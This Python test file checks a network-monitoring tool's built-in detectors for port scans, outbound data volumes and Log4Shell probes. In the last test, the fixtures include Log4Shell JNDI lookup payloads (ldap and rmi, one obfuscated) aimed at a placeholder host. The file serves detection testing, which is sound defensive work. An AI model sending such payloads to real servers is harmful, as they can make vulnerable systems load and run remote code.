"""The built-in behaviour checks: port scans, exfiltration volumes, Log4Shell probes."""

from __future__ import annotations

from datetime import UTC, datetime

import polars as pl

from bastion.boundary.behaviour import behaviour
from bastion.core.events import ARCHIVE_SCHEMA, conform
from bastion.detect import CheckThresholds

T0 = datetime(2025, 6, 2, tzinfo=UTC)
MEMBER = "10.0.0.5"


def events(rows: list[dict[str, object]]) -> pl.DataFrame:
    base = {"@timestamp": T0, "event.original": "x", "event.type": "allowed"}
    return conform(pl.DataFrame([base | r for r in rows]), ARCHIVE_SCHEMA)


def probe(source: str, port: int, org: str | None = "ORG1") -> dict[str, object]:
    return {
        "source.ip": source,
        "destination.ip": MEMBER,
        "destination.port": port,
        "organization.id": org,
        "host.ip": MEMBER if org else None,
    }


def test_port_scan_needs_the_threshold_of_distinct_ports_from_one_source() -> None:
    scan = [probe("198.51.100.1", p) for p in range(50)]
    near = [probe("198.51.100.2", p) for p in range(49)] * 2  # 49 distinct ports, twice
    found = behaviour(events(scan + near))
    assert found.height == 50
    assert set(found["key"]) == {"builtin:port-scan:198.51.100.1"}
    assert set(found["organization.id"]) == {"ORG1"}


def test_no_scan_alert_for_traffic_no_member_owns() -> None:
    assert behaviour(events([probe("198.51.100.1", p, org=None) for p in range(60)])).height == 0


def test_exfiltration_sums_what_one_host_sends_to_one_address() -> None:
    def upload(destination: str, sent: int) -> dict[str, object]:
        return {
            "source.ip": MEMBER,
            "destination.ip": destination,
            "source.bytes": sent,
            "organization.id": "ORG1",
            "host.ip": MEMBER,
        }

    rows = [upload("203.0.113.9", 600)] * 2 + [upload("203.0.113.10", 1100)]
    found = behaviour(
        events(rows), CheckThresholds(national={("builtin:exfiltration", "bytes"): 1200})
    )
    assert found["key"].to_list() == ["builtin:exfiltration:203.0.113.9"] * 2
    assert found["severity"].unique().to_list() == ["high"]


def test_log4shell_probe_in_url_or_user_agent_of_a_member() -> None:
    rows = [
        {"url.full": "http://a/?q=${jndi:ldap://x/a}", "organization.id": "ORG1"},
        {"user_agent.original": "${${lower:j}ndi:rmi://x}", "organization.id": "ORG2"},
        {"url.full": "http://a/?q=${jndi:ldap://x/a}", "organization.id": None},
        {"url.full": "http://a/?q=jndi", "organization.id": "ORG3"},
    ]
    found = behaviour(events(rows))
    assert sorted(found["organization.id"]) == ["ORG1", "ORG2"]
    assert set(found["key"]) == {"builtin:log4shell-probe"}
